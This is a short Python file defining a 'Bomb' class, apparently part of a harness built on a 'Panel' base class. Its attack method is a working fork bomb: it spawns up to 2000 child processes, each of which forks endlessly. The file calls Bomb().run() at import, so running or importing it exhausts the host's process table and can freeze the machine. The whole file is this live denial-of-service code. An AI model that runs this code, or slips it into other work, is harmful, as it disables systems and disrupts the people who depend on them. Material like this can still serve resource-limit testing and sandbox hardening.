"""Makes processes without end, and each of them does the same."""

import os
import time

from bare import Panel


class Bomb(Panel):
    def attack(self):
        made = 0
        for _ in range(2000):
            try:
                child = os.fork()
            except OSError:
                break
            if child == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
            made += 1
        return {"made": made}


Bomb().run()
